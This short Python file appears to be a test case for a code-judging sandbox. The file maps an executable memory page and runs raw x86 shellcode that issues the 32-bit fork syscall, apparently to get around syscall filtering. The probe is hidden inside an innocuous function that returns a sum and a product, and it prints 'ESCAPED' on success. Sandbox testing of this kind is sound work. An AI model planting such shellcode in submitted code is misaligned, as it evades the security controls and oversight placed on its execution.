# Tries: to fork as a program of 32 bits. May get: SV AC RTE.
import ctypes
import mmap
import os


def run(code):
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    page.write(code)
    at = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_long)(at)()


CODE = bytes.fromhex("b802000000cd80c3")  # mov eax, 2; int 0x80; ret


def attack():
    if os.uname().machine != "x86_64":
        return None
    return run(CODE) >= 0 and "a fork of 32 bits"


def tiny(a, b):
    got = attack()
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
